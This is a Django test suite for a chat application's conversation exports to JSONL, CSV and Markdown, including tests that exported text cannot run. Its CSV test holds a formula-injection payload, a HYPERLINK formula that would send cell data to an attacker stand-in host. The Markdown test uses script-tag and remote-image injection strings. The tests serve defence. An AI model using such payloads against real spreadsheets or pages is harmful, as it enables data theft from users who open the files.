"""Conversations as files: what is in them, and that nothing in them runs."""

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

from django.db import connection
from django.db.models.functions import Now
from django.test import SimpleTestCase, TestCase
from django.test.utils import CaptureQueriesContext
from markdown_it import MarkdownIt

from streaming_chat.exports import rows as rows_module
from streaming_chat.exports.markdown import export_markdown
from streaming_chat.exports.transcripts import FORMATS, Jsonl, escape_formula, export
from streaming_chat.models import Conversation, Feedback, Message, ToolCall
from streaming_chat.protocol.events import Event
from tests.factories import make_call, make_conversation, make_live, make_message, make_reply, make_user
from tests.hostile import HOSTILE
from tests.rendering.test_markdown import Elements


def written(form, conversations=None, after=None):
    """Return the file as text."""
    found = Conversation.objects.all() if conversations is None else conversations
    return b"".join(chunk.data for chunk in export(found, FORMATS[form](), after)).decode()


def lines(**options):
    return [json.loads(line) for line in written("jsonl", **options).splitlines()]


def rows():
    return list(csv.DictReader(io.StringIO(written("csv").removeprefix("\ufeff"))))


def markdown(conversation, through=None):
    return b"".join(chunk.data for chunk in export_markdown(conversation.pk, through)).decode()


class JsonlTests(TestCase):
    def test_a_line_is_a_conversation_with_all_of_its_messages(self):
        conversation = make_conversation(system_prompt="You are careful.", metadata={"page": "/weather"})
        asked = make_message(conversation, "Will it rain?")
        first = make_reply(conversation, "Yes.", parent=asked, cost=Decimal("0.00120000"), input_tokens=312)
        second = make_reply(conversation, "No.", parent=asked)
        Feedback.objects.create(message=first, value=-1, comment="It did not", by=conversation.owner, owner_key="u:1")
        (line,) = lines()

        assert line["id"] == str(conversation.pk)
        assert (line["owner"], line["title"], line["head"]) == ("ana", "Rain in Lisbon", str(second.pk))
        assert (line["system_prompt"], line["metadata"]) == ("You are careful.", {"page": "/weather"})
        assert [message["text"] for message in line["messages"]] == ["Will it rain?", "Yes.", "No."]
        assert line["messages"][1]["parts"] == [{"kind": "text", "text": "Yes."}]
        assert (line["messages"][1]["cost"], line["messages"][1]["input_tokens"]) == ("0.00120000", 312)
        assert line["messages"][1]["parent"] == str(asked.pk)
        (feedback,) = line["messages"][1]["feedback"]
        assert (feedback["value"], feedback["comment"], feedback["by"]) == (-1, "It did not", "ana")

    def test_line_breaks_of_a_text_are_none_of_the_file(self):
        """For a reader that splits at every line break of Unicode, too."""
        texts = ["a\nb", "a\r\nb", "a\u2028b", "a\u2029b", "\x85", "\x0b\x0c\x1c\x1d\x1e"]
        for text in texts:
            make_message(make_conversation(), text)

        assert [json.loads(line)["messages"][0]["text"] for line in written("jsonl").splitlines()] == texts

    def test_digests_of_requests_are_not_in_it(self):
        make_reply(make_conversation(), send_key="sled", body_digest="rosebud")

        assert "sled" not in written("jsonl")
        assert "rosebud" not in written("jsonl")

    def test_without_messages_and_without_an_owner(self):
        make_conversation()
        Conversation.objects.create(owner_key="v:1", title="a")
        Conversation.objects.create(owner_key="", erased_at=Now())

        assert [(line["owner"], line["owner_key"][:2], line["messages"]) for line in lines()] == [
            ("ana", "u:", []),
            (None, "v:", []),
            (None, "", []),
        ]

    def test_a_live_reply_has_no_text_yet(self):
        make_live(make_conversation(), Event("text", "Tomorrow it "))

        assert lines()[0]["messages"][1]["status"] == "streaming"
        assert lines()[0]["messages"][1]["text"] == ""


class PagingTests(TestCase):
    def setUp(self):
        for number in range(7):
            conversation = make_conversation(title=str(number))
            for _reply in range(number):
                make_reply(conversation, f"Reply of {number}")

    def small(self, **sizes):
        for name, size in sizes.items():
            before = getattr(rows_module, name)
            setattr(rows_module, name, size)
            self.addCleanup(setattr, rows_module, name, before)

    def test_pages_of_any_size_make_the_same_file(self):
        for form in FORMATS:
            whole = written(form)
            for conversations, messages, units in ((1, 1, 1), (2, 3, 1_000_000), (3, 100, 20), (7, 5, 1), (100, 1, 1)):
                self.small(CONVERSATIONS=conversations, MESSAGES=messages, UNITS=units)

                assert written(form) == whole, (form, conversations, messages, units)

    def test_an_export_goes_on_where_it_was(self):
        self.small(CONVERSATIONS=2, MESSAGES=2)
        chunks = list(export(Conversation.objects.all(), Jsonl()))
        whole = b"".join(chunk.data for chunk in chunks)
        for index, chunk in enumerate(chunks):
            if chunk.through is not None:
                begun = b"".join(each.data for each in chunks[: index + 1])

                assert (begun.decode() + written("jsonl", after=chunk.through)).encode() == whole

    def test_it_ends_where_others_begin_meanwhile(self):
        """Each page is read once: conversations that begin faster than they are written are no reason to go on."""
        self.small(CONVERSATIONS=3)
        found = 0
        for chunk in export(Conversation.objects.all(), Jsonl()):
            found += chunk.conversations
            if chunk.through:
                make_conversation()

        assert 7 <= found <= 10

    def test_it_counts_what_is_whole(self):
        self.small(CONVERSATIONS=2, MESSAGES=2)
        chunks = list(export(Conversation.objects.all(), Jsonl()))

        assert sum(chunk.conversations for chunk in chunks) == 7
        assert sum(chunk.messages for chunk in chunks) == Message.objects.count()

    def test_queries_are_a_few_for_a_page(self):
        with CaptureQueriesContext(connection) as queries:
            written("jsonl")

        # Conversations, the shape of their messages, messages, feedback, tool calls.
        assert len(queries) == 5
        assert not [query for query in queries if "DECLARE" in query["sql"]]


class CsvTests(TestCase):
    def test_a_row_is_a_message(self):
        conversation = make_conversation()
        reply = make_reply(conversation, 'Yes, "today";\nor not', first_event_ms=412, tokens_estimated=True)
        Feedback.objects.create(message=reply, value=1, comment="Thanks", owner_key="u:1")
        asked, answered = rows()

        assert (asked["role"], asked["text"], asked["owner"]) == ("user", "Will it rain?", "ana")
        assert answered["text"] == 'Yes, "today";\nor not'
        assert (answered["conversation"], answered["parent"]) == (str(conversation.pk), asked["message"])
        assert (answered["first_event_ms"], answered["tokens_estimated"], answered["cost"]) == ("412", "true", "")
        assert (answered["feedback"], answered["comments"]) == ("good", "Thanks")

    def test_no_cell_begins_as_a_formula_does(self):
        text = '=HYPERLINK("https://evil.example/?"&A1)'
        conversation = make_conversation(make_user("@ana"), title=text, model="-1")
        reply = make_reply(conversation, text, model="+1", request_id="@SUM(1)", finish_reason="\t=1", ref="\r=1")
        Feedback.objects.create(message=reply, value=-1, comment=text, owner_key="u:1")
        cells = [cell for row in rows() for cell in row.values()]

        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
        assert rows()[1]["text"] == f"'{text}"


class EscapeFormulaTests(SimpleTestCase):
    def test_what_begins_a_formula_begins_with_an_apostrophe(self):
        for text in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", " =1", "＝1", "－1", "=", "\0=1"):
            assert escape_formula(text) == f"'{text}"

    def test_other_texts_are_as_they_were(self):
        for text in ("", "a=1", "1-1", "'=1", "*", "a\n=1", "–1"):
            assert escape_formula(text) == text


class MarkdownTests(TestCase):
    def test_it_says_who_and_when_then_the_branch_in_view(self):
        conversation = make_conversation(system_prompt="You are careful.", metadata={"page": "/weather"})
        asked = make_message(conversation, "Will it rain?")
        make_reply(conversation, "Yes.", parent=asked)
        shown = make_reply(conversation, "No.", parent=asked, request_id="req_1")
        Feedback.objects.create(message=shown, value=-1, comment="It did", owner_key="u:1")
        page = markdown(conversation)

        order = [
            "Conversation",
            "Rain in Lisbon",
            "ana",
            "You are careful.",
            "/weather",
            "Will it rain?",
            "No.",
            "It did",
        ]
        assert [page.index(text) for text in order] == sorted(page.index(text) for text in order)
        assert "Yes." not in page
        assert "req_1" in page

    def test_another_branch_by_a_message_on_it(self):
        conversation = make_conversation()
        asked = make_message(conversation, "Will it rain?")
        first = make_reply(conversation, "Yes.", parent=asked)
        make_message(conversation, "Follows the first", parent=first)
        make_reply(conversation, "No.", parent=asked)
        page = markdown(conversation, first.pk)

        assert "Follows the first" in page
        assert "No." not in page

    def test_reasoning_and_what_follows_the_cut_are_marked(self):
        conversation = make_conversation()
        parts = [{"kind": "reasoning", "text": "pondering"}, {"kind": "text", "text": "Seen. Unseen."}]
        make_reply(conversation, parts=parts, status="stopped", end_reason="user", cut_position=15)
        page = markdown(conversation)

        assert page.index("Reasoning:") < page.index("pondering") < page.index("Seen.")
        assert page.index("beyond the cut") < page.index("Unseen.")

    def test_nothing_of_a_text_is_rendered(self):
        """Whatever shows the file, and let it take HTML: no image is fetched, no link made, no fence left."""
        fences = {
            "fence": "```\n<script>alert(1)</script>\n```",
            "long": "`````\n# A",
            "tildes": "~~~\n# B",
            "end": "a\n```text",
        }
        conversation = make_conversation(title="`<b>` ![a](https://canary.example)", system_prompt=HOSTILE["script"])
        for text in [*HOSTILE.values(), *fences.values()]:
            reply = make_reply(conversation, text, model=text[:200], request_id=text[:200])
        Feedback.objects.create(message=reply, value=1, comment=HOSTILE["image elsewhere"], owner_key="u:1")
        html = MarkdownIt("commonmark", {"html": True}).render(markdown(conversation))

        assert Elements(html).tags == {"h1", "h2", "ul", "li", "p", "code", "pre"}

    def test_a_conversation_that_is_not_there(self):
        conversation = make_conversation()
        Conversation.objects.all().delete()

        assert markdown(conversation) == ""


class RedactedTests(TestCase):
    def test_it_says_when(self):
        reply = make_reply(make_conversation())
        Message.objects.filter(pk=reply.pk).update(redacted_at=Now() - timedelta(days=1))

        assert lines()[0]["messages"][1]["redacted_at"]


class ToolCallTests(TestCase):
    """Arguments, results, who allowed a call and how long it took, in each format."""

    def setUp(self):
        self.conversation = make_conversation()
        parts = [
            {"kind": "step", "number": 1},
            {"kind": "tool_call", "id": "1", "name": "refund", "arguments": '{"order": 7}', "complete": True},
            {"kind": "approval", "calls": [{"id": "1", "runs": "server", "editable": False}], "expires": "2026-12-01"},
            {"kind": "tool_result", "id": "1", "status": "ok", "output": "refunded 7", "ms": 120},
            {"kind": "text", "text": "Done."},
        ]
        self.reply = make_reply(self.conversation, parts=parts)
        answered = {"answer": {"approved": True}, "answered_at": self.reply.created_at, "by": make_user("bo")}
        make_call(self.reply, call_id="1", **answered)
        make_call(self.reply, "invented", call_id="2", status="error", started_at=None, digest="")

    def test_jsonl(self):
        ((_asked, reply),) = (line["messages"] for line in lines())
        call, other = reply["tool_calls"]

        assert (call["call"], call["step"], call["name"], call["status"]) == ("1", 1, "refund", "ok")
        assert (call["arguments"], call["output"], call["ms"]) == ('{"order": 7}', "refunded 7", 120)
        assert (call["answered_by"], call["answer"]) == ("bo", {"approved": True})
        assert (other["name"], other["answered_by"], other["answered_at"]) == ("invented", None, None)
        assert reply["parts"][3]["output"] == "refunded 7"

    def test_csv_has_a_line_for_each_call(self):
        asked, reply = rows()
        call, other = map(json.loads, reply["tool_calls"].splitlines())

        assert asked["tool_calls"] == ""
        assert (call["name"], call["output"], call["answered_by"]) == ("refund", "refunded 7", "bo")
        assert other["name"] == "invented"

    def test_markdown(self):
        text = markdown(self.conversation)

        assert "- Tool call 1: `refund, ok, 120 ms, allowed by bo, " in text
        assert "- Tool call 2: `invented, error`" in text
        assert "Tool call:\n\n" in text
        assert "Tool result:\n\n" in text
        assert '"output": "refunded 7"' in text
        assert "approval" not in text
        assert '"step"' not in text

    def test_who_has_not_allowed_it(self):
        ToolCall.objects.filter(call_id="1").update(
            status="denied", started_at=None, answer={"approved": False}, by=None
        )

        assert "`refund, denied, not allowed by a visitor or a deleted account, " in markdown(self.conversation)

    def test_the_queries_do_not_grow_with_the_calls(self):
        with CaptureQueriesContext(connection) as few:
            written("jsonl")
        for number in range(20):
            make_call(self.reply, call_id=f"more {number}")
        with self.assertNumQueries(len(few)):
            written("jsonl")
